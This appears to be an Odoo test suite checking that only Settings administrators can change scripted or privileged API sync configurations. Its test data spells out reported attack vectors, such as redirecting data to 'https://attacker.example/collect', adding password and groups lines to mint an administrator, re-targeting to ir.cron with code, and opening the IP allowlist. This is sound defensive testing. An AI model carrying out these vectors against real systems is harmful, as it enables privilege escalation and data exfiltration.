"""An administrator's script, identity or Trigger Action acts only where an
administrator put it: a configuration that holds a script, runs as another user
than the writing one or has a Trigger Action, every configuration that reaches
one through its Mapping Models and every one it maps through, is changed only by
Settings administrators, with everything its plan is built from."""

import logging

from lxml import etree

from odoo import Command
from odoo.exceptions import AccessError
from odoo.tests import Form, HttpCase, new_test_user, tagged
from odoo.tools import convert_file, mute_logger

from .common import CONFIGURE, BjApiSyncCase, BjApiSyncTestMixin, doc_section

_logger = logging.getLogger(__name__)

LOCKED = "Only Settings administrators may change configuration"


@tagged("post_install", "-at_install")
class TestScriptLock(BjApiSyncCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.admin = new_test_user(cls.env, login="bj_lock_admin", groups="base.group_system")
        # Countries, mapped by the administrator's scripted configuration.
        cls.countries = cls.make_country_config(endpoint="lock-countries")
        cls.scripted = cls.make_config(
            name="Admin scripted", endpoint="lock-scripted", authorization_type="bearer_token",
            bearer_token="lock-token-value", filter_domain="[('is_company', '=', False)]",
            header_ids=[Command.create({"key": "X-Admin", "value": "1"})],
            param_ids=[Command.create({"key": "q", "field_id": cls.partner_field("name").id})],
            lines=[("id", "id", {"is_identifier": True}),
                   ("name", "name", None),
                   ("comment", "note", {"value_type": "python_plain",
                                        "python_script": "(data.get('note') or '').upper()"}),
                   ("country_id", "country", {"value_type": "relational_mapping",
                                              "mapping_config_id": cls.countries.id})],
        )
        cls.script_line = cls.scripted.line_ids.filtered(lambda line: line.has_script)
        cls.plain_line = cls.scripted.line_ids.filtered(lambda line: line.external_key == "name")
        # An administrator's configuration of companies that maps through the scripted one.
        cls.reaching = cls.make_config(
            name="Admin reaching", endpoint="lock-reaching",
            lines=[("id", "id", {"is_identifier": True}),
                   ("child_ids", "contacts", {"value_type": "relational_mapping",
                                              "mapping_config_id": cls.scripted.id})],
        )
        # The manager's own configuration, with no script anywhere.
        cls.own = cls.make_config(
            name="Manager's", endpoint="lock-own", run_as_user_id=cls.sync_manager.id,
            user_id=cls.sync_manager.id,
            lines=[("id", "id", {"is_identifier": True}), ("name", "name", None)],
        )
        cls.parent_field = cls.env["ir.model.fields"]._get("res.partner", "parent_id")

    def setUp(self):
        super().setUp()
        self.actor = self.sync_manager

    def as_manager(self, records):
        """``records`` as the user the vectors run as (the manager, unless a test
        says otherwise)."""
        return records.with_user(self.actor)

    def vectors(self):
        """The attack as reported, then further ways to the same records."""
        scripted, line = self.as_manager(self.scripted), self.as_manager(self.script_line)
        users_model = self.env["ir.model"]._get_id("res.users")
        lines = self.env["bj.api.sync.config.line"].with_user(self.actor)
        return {
            # As reported.
            "the script line's field": lambda: line.write(
                {"field_id": self.partner_field("website").id}),
            "the Model, to res.users": lambda: scripted.write({"model_id": users_model}),
            "In to Out with the manager's URL": lambda: scripted.write(
                {"request_type": "out", "request_url": "https://attacker.example/collect",
                 "http_method_ids": [Command.set(self.method_post.ids)]}),
            "No Auth": lambda: scripted.write({"authorization_type": "no_auth"}),
            "the endpoint": lambda: scripted.write({"endpoint": "taken-over"}),
            "the Filter Domain": lambda: scripted.write({"filter_domain": "[]"}),
            "the manager's configuration mapped through it": lambda: lines.create({
                "config_id": self.own.id, "field_id": self.parent_field.id,
                "value_type": "relational_mapping", "mapping_config_id": self.scripted.id,
                "external_key": "parent"}),
            # Further ways.
            "an existing line of the manager's re-pointed": lambda: self.as_manager(
                self.own.line_ids[1]).write({
                    "field_id": self.parent_field.id, "value_type": "relational_mapping",
                    "mapping_config_id": self.scripted.id}),
            "a new configuration mapped through it": lambda: self.env[
                "bj.api.sync.config"].with_user(self.actor).create({
                    "name": "Through", "request_type": "in", "endpoint": "lock-through",
                    "model_id": self.partner_model.id,
                    "line_ids": [Command.create({"field_id": self.parent_field.id,
                                                 "value_type": "relational_mapping",
                                                 "mapping_config_id": self.scripted.id,
                                                 "is_identifier": True})]}),
            "a one2many command on the manager's own": lambda: self.as_manager(self.own).write({
                "line_ids": [Command.create({"field_id": self.parent_field.id,
                                             "value_type": "relational_mapping",
                                             "mapping_config_id": self.scripted.id})]}),
            "web_save with a line update": lambda: scripted.web_save({"line_ids": [
                Command.update(self.plain_line.id, {"external_key": "full_name"})]},
                specification={}),
            "the name": lambda: scripted.write({"name": "Renamed"}),
            "archived": lambda: scripted.action_archive(),
            "deleted": lambda: scripted.unlink(),
            "the HTTP methods": lambda: scripted.write(
                {"http_method_ids": [Command.set(self.method_get.ids)]}),
            "the IP allowlist": lambda: scripted.write({"ip_allowlist": "0.0.0.0/0"}),
            "a new Bearer Token": lambda: scripted.action_generate_bearer_token(),
            "the script turned off": lambda: line.write({"value_type": "plain"}),
            "the script line deleted": lambda: line.unlink(),
            "a plain line changed": lambda: self.as_manager(self.plain_line).write(
                {"external_key": "full_name"}),
            "a plain line deleted": lambda: self.as_manager(self.plain_line).unlink(),
            "a line added": lambda: lines.create({
                "config_id": self.scripted.id, "field_id": self.partner_field("email").id}),
            "a line loaded into it": lambda: self.raise_load(lines.load(
                ["config_id/.id", "field_id/.id", "external_key"],
                [[str(self.scripted.id), str(self.partner_field("email").id), "mail"]])),
            "a header added": lambda: self.env["bj.api.sync.header"].with_user(
                self.actor).create({"config_id": self.scripted.id, "key": "X-Evil"}),
            "a header changed": lambda: self.as_manager(self.scripted.header_ids).write(
                {"value": "2"}),
            "a header deleted": lambda: self.as_manager(self.scripted.header_ids).unlink(),
            "a parameter added": lambda: self.env["bj.api.sync.param"].with_user(
                self.actor).create({"config_id": self.scripted.id, "key": "all",
                                           "field_id": self.partner_field("email").id}),
            "a parameter changed": lambda: self.as_manager(self.scripted.param_ids).write(
                {"domain_operator": "!="}),
            "a parameter deleted": lambda: self.as_manager(self.scripted.param_ids).unlink(),
            "duplicated": lambda: scripted.copy({"endpoint": "lock-copy"}),
            "a configuration reaching it": lambda: self.as_manager(self.reaching).write(
                {"filter_domain": "[]"}),
            "its mapping to it removed": lambda: self.as_manager(
                self.reaching.line_ids[1]).unlink(),
            "a configuration it maps through": lambda: self.as_manager(self.countries).write(
                {"model_id": users_model}),
            "a line of it": lambda: self.as_manager(self.countries.line_ids[1]).write(
                {"external_key": "label"}),
            "a shared HTTP method renamed": lambda: self.as_manager(self.method_get).write(
                {"name": "POST"}),
            "its lines taken by the manager's configuration": lambda: self.as_manager(
                self.own).write({"line_ids": [Command.set(self.scripted.line_ids.ids)]}),
            "a script waiting on a plain line": lambda: self.as_manager(
                self.own.line_ids[1]).write({"python_script": "'x'"}),
            "a script as the manager's personal default": lambda: self.default_script(),
        }

    def default_script(self):
        self.env["ir.default"].set("bj.api.sync.config.line", "python_script", "'x'",
                                   user_id=self.actor.id)
        self.as_manager(self.env["bj.api.sync.config.line"]).create(
            {"config_id": self.own.id, "field_id": self.partner_field("email").id})

    @staticmethod
    def raise_load(result):
        errors = [message["message"] for message in result["messages"]
                  if message["type"] == "error"]
        if any("Only Settings administrators" in error for error in errors):
            raise AccessError("\n".join(errors))
        if errors:
            raise ValueError("\n".join(errors))

    def snapshot(self):
        configs = self.scripted | self.reaching | self.countries | self.own
        return [(config.read()[0], config.line_ids.read(), config.header_ids.read(),
                 config.param_ids.read()) for config in configs.with_context(active_test=False)]

    def test_manager_is_refused_every_vector(self):
        before = self.snapshot()
        vectors = self.vectors()
        for name, call in vectors.items():
            with self.subTest(vector=name), self.assertRaisesRegex(
                    AccessError, "Only Settings administrators"), self.env.cr.savepoint():
                call()
        self.env.invalidate_all()
        self.assertEqual(self.snapshot(), before)
        _logger.info("Script lock: %s manager vectors refused.", len(vectors))

    @mute_logger("odoo.sql_db")  # a deletion the reaching configuration's line restricts
    def test_administrators_do_it_all(self):
        self.actor = self.admin
        for name, call in self.vectors().items():
            with self.subTest(vector=name):
                savepoint = self.env.cr.savepoint()
                try:
                    call()
                except AccessError as error:
                    # Moving a line to another configuration is nobody's (field table).
                    if "is set when the record is created" not in str(error):
                        self.fail(f"{name}: {error}")
                except Exception:  # noqa: BLE001 - constraints: not the lock's concern
                    _logger.debug("vector %s", name, exc_info=True)
                finally:
                    savepoint.close(rollback=True)

    def test_http_methods_are_administrators(self):
        """Every configuration shares them, scripted ones included."""
        methods = self.as_manager(self.env["bj.http.method"])
        for name, call in {"create": lambda: methods.create({"name": "PATCH"}),
                           "rename": lambda: self.as_manager(self.method_post).write(
                               {"name": "GET"}),
                           "delete": lambda: self.as_manager(self.method_delete).unlink()}.items():
            with self.subTest(name), self.assertRaises(AccessError), self.env.cr.savepoint():
                call()
        self.assertTrue(self.method_delete.exists())
        self.method_put.with_user(self.admin).write({"sequence": 99})
        self.env["bj.http.method"].with_user(self.admin).create({"name": "PATCH"})

    def test_the_manager_keeps_configurations_without_scripts(self):
        own = self.as_manager(self.own)
        own.write({"filter_domain": "[('is_company', '=', True)]", "authorization_type":
                   "no_auth"})
        self.as_manager(self.env["bj.api.sync.config.line"]).create({
            "config_id": self.own.id, "field_id": self.parent_field.id,
            "value_type": "relational_mapping", "external_key": "parent",
            "mapping_config_id": self.make_partner_config(
                endpoint="lock-plain", run_as_user_id=self.sync_manager.id).id})
        own.copy({"endpoint": "lock-own-copy"})
        self.assertFalse(own.admin_only)

    def test_the_form_is_read_only_for_the_manager(self):
        form = Form(self.scripted.with_user(self.sync_manager))
        for name in ("name", "request_type", "model_id", "filter_domain", "endpoint",
                     "authorization_type", "line_ids", "header_ids", "param_ids"):
            self.assertTrue(form._get_modifier(name, "readonly"), name)
        with self.assertRaises(AssertionError):
            form.name = "Renamed"
        admin_form = Form(self.scripted.with_user(self.admin))
        self.assertFalse(admin_form._get_modifier("name", "readonly"))
        self.assertFalse(Form(self.own.with_user(self.sync_manager))._get_modifier(
            "name", "readonly"))

    def test_the_form_tells_the_manager(self):
        for user, locked in ((self.sync_manager, True), (self.admin, False)):
            configs = self.env["bj.api.sync.config"].with_user(user)
            with self.subTest(user=user.login):
                self.assertEqual(configs.browse(self.scripted.id).admin_only, locked)
                self.assertEqual(configs.browse(self.reaching.id).admin_only, locked)
                self.assertEqual(configs.browse(self.countries.id).admin_only, locked)
                self.assertFalse(configs.browse(self.own.id).admin_only)
                arch = configs.get_views([(False, "form")])["views"]["form"]["arch"]
                self.assertIn('invisible="not admin_only"', arch)
                self.assertIn("Only Settings administrators can change this configuration", arch)
                for name in ("name", "model_id", "filter_domain", "line_ids", "header_ids",
                             "param_ids", "endpoint", "authorization_type"):
                    self.assertRegex(arch, rf'<field name="{name}"[^>]*readonly="admin_only')

    def test_the_readme_quotes_the_banner(self):
        arch = etree.fromstring(self.env["bj.api.sync.config"].get_views(
            [(False, "form")])["views"]["form"]["arch"])
        banner = arch.xpath("//div[@invisible='not admin_only']")[0]
        text = " ".join("".join(banner.itertext()).split())
        access_rights = doc_section(CONFIGURE, "Access rights")
        self.assertIn(f'"{text}"', " ".join(access_rights.split()))


@tagged("post_install", "-at_install")
class TestAdminOnlyConfigurations(BjApiSyncCase):
    """Not only scripts: a configuration that runs as another user than the
    writing one, or has a Trigger Action, is administrators', with its Mapping
    Model chain both ways; the vectors an attacker reported, as a manager."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.admin = new_test_user(cls.env, login="bj_only_admin", groups="base.group_system")
        cls.other_manager = new_test_user(cls.env, login="bj_only_manager2",
                                          groups="bjet_api_sync.group_api_sync_manager")
        cls.users_model = cls.env["ir.model"]._get_id("res.users")
        # An administrator's In configuration, no script, running as the administrator.
        cls.as_admin = cls.make_partner_config(
            name="Admin partner import", endpoint="only-admin", run_as_user_id=cls.admin.id,
            authorization_type="bearer_token", bearer_token="only-admin-token")
        # The manager's configuration of users, that an administrator's maps through.
        cls.child = cls.make_config(
            model="res.users", name="Manager's users", endpoint="only-child",
            run_as_user_id=cls.sync_manager.id, user_id=cls.sync_manager.id,
            lines=[("login", "login", {"is_identifier": True}), ("name", "name", None)])
        cls.parent = cls.make_partner_config(
            name="Admin partners with users", endpoint="only-parent",
            run_as_user_id=cls.admin.id)
        cls.parent.write({"line_ids": [Command.create({
            "field_id": cls.partner_field("user_ids").id, "external_key": "users",
            "value_type": "relational_mapping", "mapping_config_id": cls.child.id})]})
        # The manager's own, which nothing reaches.
        cls.own = cls.make_partner_config(
            name="Manager's own", endpoint="only-own", run_as_user_id=cls.sync_manager.id,
            user_id=cls.sync_manager.id)
        cls.theirs = cls.make_partner_config(
            name="Another manager's", endpoint="only-theirs",
            run_as_user_id=cls.other_manager.id, user_id=cls.other_manager.id)
        # An administrator's Out configuration fired by an automation rule.
        cls.triggered = cls.make_partner_config(
            name="Admin partners out", request_type="out", run_as_user_id=cls.sync_manager.id,
            trigger_action_model_id=cls.env["ir.model"]._get_id("base.automation"))
        cls.triggered.with_user(cls.admin).action_create_trigger_action()

    def refused(self, call):
        with self.assertRaisesRegex(AccessError, LOCKED), self.env.cr.savepoint():
            call()

    def cron_lines(self):
        def field(name):
            return self.env["ir.model.fields"]._get("ir.cron", name).id
        return [Command.clear(),
                Command.create({"field_id": field("id"), "external_key": "id",
                                "is_identifier": True}),
                *(Command.create({"field_id": field(name), "external_key": name})
                  for name in ("name", "model_id", "state", "code", "interval_type"))]

    def test_a_configuration_running_as_another_user(self):
        before = self.as_admin.read()
        config = self.as_admin.with_user(self.sync_manager)
        vectors = {
            "re-targeted to ir.cron with a code line": lambda: config.write({
                "model_id": self.env["ir.model"]._get_id("ir.cron"), "endpoint": "mgr-x",
                "bearer_token": "mgrtoken", "http_method_ids": [Command.set(
                    self.method_post.ids)], "line_ids": self.cron_lines()}),
            "its Run As User kept, the rest changed": lambda: config.write({
                "run_as_user_id": self.admin.id, "authorization_type": "no_auth"}),
            "its Run As User taken over": lambda: config.write(
                {"run_as_user_id": self.sync_manager.id}),
            "archived": lambda: config.action_archive(),
            "deleted": lambda: config.unlink(),
            "a line added": lambda: self.env["bj.api.sync.config.line"].with_user(
                self.sync_manager).create({"config_id": self.as_admin.id,
                                           "field_id": self.partner_field("comment").id}),
            "another manager's configuration": lambda: self.theirs.with_user(
                self.sync_manager).write({"authorization_type": "no_auth"}),
        }
        for name, call in vectors.items():
            with self.subTest(name):
                self.refused(call)
        self.assertEqual(self.as_admin.read(), before)
        # Its owner changes it; so does an administrator.
        self.theirs.with_user(self.other_manager).write({"limit": 7})
        self.as_admin.with_user(self.admin).write({"limit": 7})

    def test_the_lock_spreads_to_the_configurations_a_parent_maps_through(self):
        """The administrator's configuration runs the manager's lines as the
        administrator: adding groups and a password line would create a Settings
        administrator."""
        child = self.child.with_user(self.sync_manager)
        lines = self.env["bj.api.sync.config.line"].with_user(self.sync_manager)
        users_field = self.env["ir.model.fields"]._get
        for name, call in {
            "a groups line": lambda: child.write({"line_ids": [Command.create({
                "field_id": users_field("res.users", "groups_id").id,
                "external_key": "groups"})]}),
            "a password line": lambda: lines.create({
                "config_id": self.child.id, "external_key": "password",
                "field_id": users_field("res.users", "password").id}),
            "its identifier changed": lambda: child.line_ids[0].write(
                {"external_key": "user_login"}),
            "its Filter Domain": lambda: child.write({"filter_domain": "[]"}),
            "deleted": lambda: child.unlink(),
        }.items():
            with self.subTest(name):
                self.refused(call)
        self.assertEqual(len(self.child.line_ids), 2)
        configs = self.env["bj.api.sync.config"].with_user(self.sync_manager)
        self.assertTrue(configs.browse(self.child.id).admin_only)
        # Once the administrator no longer maps through it, it is the manager's again.
        self.parent.line_ids.filtered("mapping_config_id").unlink()
        self.env.invalidate_all()
        child.write({"filter_domain": "[]"})
        self.assertFalse(configs.browse(self.child.id).admin_only)

    def test_the_lock_spreads_to_the_configurations_that_map_through_it(self):
        """A manager's configuration cannot take an administrator's (running as
        another user) as Mapping Model: by a new line, a new configuration, or a
        configuration that reaches it."""
        parent_field = self.partner_field("parent_id")
        lines = self.env["bj.api.sync.config.line"].with_user(self.sync_manager)
        mapping = {"field_id": parent_field.id, "value_type": "relational_mapping",
                   "mapping_config_id": self.as_admin.id, "external_key": "parent"}
        self.refused(lambda: lines.create({"config_id": self.own.id, **mapping}))
        self.refused(lambda: self.env["bj.api.sync.config"].with_user(self.sync_manager).create({
            "name": "Through", "request_type": "in", "endpoint": "only-through",
            "model_id": self.partner_model.id,
            "line_ids": [Command.create({**mapping, "is_identifier": True})]}))
        self.assertFalse(self.own.line_ids.filtered("mapping_config_id"))

    def test_a_configuration_with_a_trigger_action(self):
        """Every partner created would queue through it: a manager archives,
        deletes, re-targets or re-types nothing of it."""
        before = self.triggered.read()
        config = self.triggered.with_user(self.sync_manager)
        country = self.env["ir.model"]._get_id("res.country")
        for name, call in {
            "archived": lambda: config.action_archive(),
            "deleted": lambda: config.unlink(),
            "another model": lambda: config.write({"model_id": country,
                                                   "line_ids": [Command.clear()]}),
            "another kind of Trigger Action": lambda: config.write(
                {"trigger_action_model_id": self.env["ir.model"]._get_id("ir.cron")}),
            "its Trigger Action cleared": lambda: config.write({"trigger_action_id": False}),
            "its URL": lambda: config.write({"request_url": "https://attacker.example/x"}),
        }.items():
            with self.subTest(name):
                self.refused(call)
        self.assertEqual(self.triggered.read(), before)

    def test_the_demo_configurations_are_administrators(self):
        """With the demo data: each runs as the integration user, so a manager
        turns none into an open endpoint."""
        convert_file(self.env, "bjet_api_sync", "demo/bj_api_sync_demo.xml", {}, mode="init",
                     noupdate=True, kind="demo")
        demo = self.env["ir.model.data"].search(
            [("module", "=", "bjet_api_sync"), ("model", "=", "bj.api.sync.config")])
        configs = self.env["bj.api.sync.config"].with_user(self.sync_manager).browse(
            demo.mapped("res_id"))
        self.assertEqual(len(configs), 3)
        self.assertTrue(all(configs.mapped("admin_only")))
        crm = self.env.ref("bjet_api_sync.demo_config_partners_out").with_user(self.sync_manager)
        self.refused(lambda: crm.write({
            "request_type": "in", "endpoint": "borrowed", "authorization_type": "no_auth",
            "http_method_ids": [Command.set((self.method_post | self.method_get
                                             | self.method_delete).ids)],
            "filter_domain": "[]"}))
        self.assertEqual(crm.request_type, "out")


@tagged("post_install", "-at_install")
class TestScriptLockForm(BjApiSyncTestMixin, HttpCase):
    """In Chromium, as an API Sync Manager: the banner, and a read-only form."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.setup_bj_fixtures()
        cls.config = cls.make_config(
            name="Admin scripted", endpoint="lock-form", authorization_type="bearer_token",
            bearer_token="lock-form-token",
            lines=[("id", "id", {"is_identifier": True}),
                   ("comment", "note", {"value_type": "python_plain", "python_script": "'x'"})])

    def test_the_form_is_read_only_with_a_banner(self):
        self.start_tour(f"/odoo/action-bjet_api_sync.action_bj_api_sync_config/{self.config.id}",
                        "bjet_api_sync_locked_form_tour", login=self.sync_manager.login)
